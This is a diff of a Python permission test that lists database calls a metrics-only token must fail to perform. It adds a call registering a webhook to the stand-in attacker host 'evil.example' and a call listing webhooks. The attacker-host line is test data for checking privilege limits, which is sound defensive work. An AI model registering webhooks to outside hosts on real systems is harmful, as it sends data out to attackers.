@@ -159,6 +159,8 @@ async def test_a_token_for_metrics_reads_them_and_can_do_nothing_else(
         "select grant_access('eve', 'red', array['read'], credential => %s)",
         "select revoke_access('admin', 'red', credential => %s)",
         "select list_grants(credential => %s)", "select list_events(credential => %s)",
+        "select add_webhook('red', 'https://evil.example/', credential => %s)",
+        "select list_webhooks(credential => %s)",
         "select undo_author('eve', now() - interval '1 day', credential => %s)",
         "select vouch(%s, sha256('x'), 'eve', array['read'], now(), 'https://login.example')",
         "select search_memory('canary', credential => %s)",
